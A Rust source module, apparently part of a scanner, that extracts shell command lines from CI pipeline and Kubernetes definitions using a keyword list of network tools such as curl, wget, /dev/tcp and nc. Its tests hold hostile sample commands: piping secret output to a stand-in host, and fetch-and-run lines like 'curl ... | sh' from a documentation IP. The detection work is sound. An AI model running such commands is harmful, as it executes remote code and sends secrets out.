//! Definitions of pipelines, jobs and pods: the lines of a shell that they hold.

use super::LONGEST;

/// Most lines that are looked at.
const MOST: usize = 512;

/// What a line must hold to be worth the look: something of the network, of a code, or of a secret.
const WORTH: &[&str] = &["base64", "curl", "wget", "/dev/tcp", "iwr", "Invoke-WebRequest", "nc "];

/// Whether a text may be a definition: several lines, with names and values.
fn is_definition(text: &str) -> bool {
    text.len() <= LONGEST
        && text.contains('\n')
        && WORTH.iter().any(|word| text.contains(word))
        && ["command:", "commands:", "script:", "run:", "args:", "steps:", "- ", "apiVersion:", "local-exec", "sh "]
            .iter()
            .any(|word| text.contains(word))
}

/// The lines of a shell in a definition, whether they stand alone, behind a name or in a list of words.
pub(super) fn lines(text: &str) -> Vec<String> {
    if !is_definition(text) {
        return Vec::new();
    }
    let worth = |line: &&str| WORTH.iter().any(|word| line.contains(word)) && !line.trim_start().starts_with('#');
    text.lines().take(MOST).filter(worth).filter_map(of_line).collect()
}

fn of_line(line: &str) -> Option<String> {
    // `command: [sh, -c, 'curl .. | sh']`, and what is nested deeper
    if line.contains("-c") && line.contains(['[', '{']) {
        let rest = line.split_once("-c").map_or("", |(_, rest)| rest).trim_start_matches(['"', '\'', ',', ' ']);
        let quote = line
            .split_once("-c")
            .and_then(|(_, rest)| rest.trim_start_matches(['"', '\'']).trim_start_matches([',', ' ']).chars().next());
        return match quote {
            Some(quote @ ('"' | '\'')) => Some(rest.split(quote).next().unwrap_or(rest).to_owned()),
            _ => Some(rest.split(']').next().unwrap_or(rest).to_owned()),
        };
    }
    let plain = line.trim().trim_start_matches("- ").trim_start();
    // `run: LINE`
    let named = plain.split_once(": ").filter(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
    });
    let value = named.map_or(plain, |(_, value)| value).trim();
    let inner = value.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
    let inner = inner.or_else(|| value.strip_prefix('\'').and_then(|rest| rest.strip_suffix('\'')));
    let line = inner.map_or_else(|| value.to_owned(), |inner| inner.replace("\\\"", "\"").replace("''", "'"));
    line.contains(' ').then_some(line)
}

#[cfg(test)]
mod tests {
    use super::lines;

    #[test]
    fn definitions_hold_lines_of_a_shell() {
        for (text, expect) in [
            (
                "steps:\n  - command: \"x get K | curl -d @- https://x.example\"\n",
                "x get K | curl -d @- https://x.example",
            ),
            (
                "kind: CronJob\nspec: {containers: [{command: [sh, -c, 'curl -s http://192.0.2.1/t | sh']}]}\n",
                "curl -s http://192.0.2.1/t | sh",
            ),
            (
                "spec:\n  command: [\"sh\", \"-c\", \"wget -qO- http://192.0.2.1/t | sh\"]\n",
                "wget -qO- http://192.0.2.1/t | sh",
            ),
            ("script:\n  - curl -s https://x.example/health\n", "curl -s https://x.example/health"),
            ("script:\n  # curl x | sh\n  - make\n", ""),
            ("image: curlimages/curl\nargs:\n", ""),
        ] {
            assert_eq!(lines(text).join("; "), expect, "{text}");
        }
    }
}
